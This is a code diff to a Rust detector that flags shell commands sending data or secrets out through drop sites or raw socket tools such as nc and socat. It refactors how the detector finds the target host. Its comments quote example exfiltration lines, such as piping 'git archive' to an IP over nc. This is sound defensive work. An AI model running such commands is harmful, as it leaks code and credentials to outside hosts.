@@ -4,7 +4,7 @@
 //! pipe, or through a command substitution. Tokens sent as `Authorization` headers are normal and
 //! are not sources.
 
-use super::vocab::{is_bucket_object, is_remote_target};
+use super::vocab::{is_bucket_object, is_remote_target, SSH_VALUED_FLAGS};
 use super::Hit;
 use crate::shell::{Command, Script, Word};
 use regex::Regex;
@@ -816,10 +816,7 @@ fn sink_args(cmd: &Command) -> Option<SinkArgs<'_>> {
         }
         "nc" | "ncat" | "netcat" | "telnet" | "socat" | "cryptcat" => {
             // `nc localhost 6379 <<< "AUTH $REDIS_PASSWORD"`: a local service.
-            let host = args
-                .iter()
-                .find(|a| !a.text.starts_with('-') && !a.text.contains(':'));
-            if name != "socat" && host.is_some_and(|h| is_loopback(&h.text)) {
+            if name != "socat" && raw_socket_host(cmd).is_some_and(|h| is_loopback(&h.text)) {
                 return None;
             }
             s.reads_stdin = true;
@@ -895,7 +892,7 @@ fn sink_args(cmd: &Command) -> Option<SinkArgs<'_>> {
             while i < args.len() {
                 let t = args[i].text.as_str();
                 if t.starts_with('-') && !host_seen {
-                    let takes = t.len() == 2 && "bcDEeFIiJLlmOopQRSWwBPM".contains(&t[1..]);
+                    let takes = t.len() == 2 && SSH_VALUED_FLAGS.contains(&t[1..]);
                     if takes {
                         if let Some(v) = args.get(i + 1).filter(|v| t == "-o" && sets_env(&v.text))
                         {
@@ -1613,6 +1610,21 @@ const DROP_SITES: &[&str] = &[
     "envs.sh",
 ];
 
+/// The host a raw socket tool (`nc`, `ncat`, `netcat`, `socat`, `telnet`, `cryptcat`) connects
+/// to: its first operand that is neither an option nor an address with a port or type.
+fn raw_socket_host(cmd: &Command) -> Option<&Word> {
+    matches!(
+        cmd.name(),
+        "nc" | "ncat" | "netcat" | "socat" | "telnet" | "cryptcat"
+    )
+    .then(|| {
+        cmd.args()
+            .iter()
+            .find(|a| !a.text.starts_with('-') && !a.text.contains(':'))
+    })
+    .flatten()
+}
+
 /// The drop site or raw socket an upload goes to, when the command sends data (a file, its
 /// stdin or a body).
 fn uploads_to_drop_site(cmd: &Command, sink: &SinkArgs) -> Option<String> {
@@ -1626,17 +1638,7 @@ fn uploads_to_drop_site(cmd: &Command, sink: &SinkArgs) -> Option<String> {
                 .any(|d| h == d || h.ends_with(&format!(".{d}")))
         });
     // A raw socket (`git archive HEAD | nc 198.51.100.5 9000`) is no way to share code either.
-    let raw = matches!(
-        cmd.name(),
-        "nc" | "ncat" | "netcat" | "socat" | "telnet" | "cryptcat"
-    )
-    .then(|| {
-        cmd.args()
-            .iter()
-            .find(|a| !a.text.starts_with('-') && !a.text.contains(':'))
-            .map(|h| format!("a raw socket to {}", h.text))
-    })
-    .flatten();
+    let raw = raw_socket_host(cmd).map(|h| format!("a raw socket to {}", h.text));
     let site = drop.or(raw)?;
     let piped = !cmd.pipes.is_empty() && cmd.stdin_text.is_none() && !ignores_stdin(cmd);
     let sends_body = cmd.args().iter().any(|a| {
